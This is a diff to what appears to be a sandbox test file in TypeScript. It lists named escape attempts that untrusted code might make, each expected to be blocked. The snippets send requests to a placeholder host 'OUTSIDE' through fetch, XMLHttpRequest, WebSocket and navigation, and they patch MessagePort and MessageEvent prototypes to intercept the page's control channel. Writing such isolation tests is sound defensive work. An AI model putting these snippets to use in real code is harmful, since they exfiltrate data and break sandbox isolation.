@@ -64,6 +64,8 @@ const ways: Record<string, string> = {
   fetch: `await fetch("http://OUTSIDE/"); return "sent"`,
   "fetch without asking": `await fetch("http://OUTSIDE/", { mode: "no-cors", method: "POST", body: "x" }); return "sent"`,
   "fetch of the site itself": `await fetch("SITE"); return "sent"`,
+  "a file that the page has loaded": `await fetch("SITEgenerated/python.json"); return "read"`,
+  "a script that the page has loaded": `await import("SITEgenerated/pyodide/pyodide.mjs"); return "imported"`,
   "a request that would change what the site serves": `await fetch("SITEcache/key?value=1", { mode: "no-cors", method: "POST" }); return "sent"`,
   XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "http://OUTSIDE/", false); x.send(); return "sent"`,
   WebSocket: `const s = new WebSocket("ws://OUTSIDE/"); await new Promise((y, n) => { s.onopen = y; s.onerror = () => n(Error("closed")) }); return "open"`,
@@ -85,6 +87,9 @@ const ways: Record<string, string> = {
   "its own navigation": `location.href = "http://OUTSIDE/"; location.assign("http://OUTSIDE/"); throw Error("still here")`,
   "opening a window": `return String(open("http://OUTSIDE/"))`,
   "the port to the page": `return String((await globalThis.resplayFirst).data.control)`,
+  // The one below says what it saw as its run ends, the other as the next begins.
+  "that port as it posts": `const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function (...given) { if (given[0].kind === "ended") globalThis.came = "reached: " + this; return Reflect.apply(postMessage, this, given) }; throw Error("not yet")`,
+  "that port as it hears": `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data"); Object.defineProperty(MessageEvent.prototype, "data", { get() { const data = Reflect.apply(get, this, []); if (data.kind === "run") globalThis.came = "reached: " + this.target; return data } }); throw Error("not yet")`,
 };
 
 function program(way: string): string {
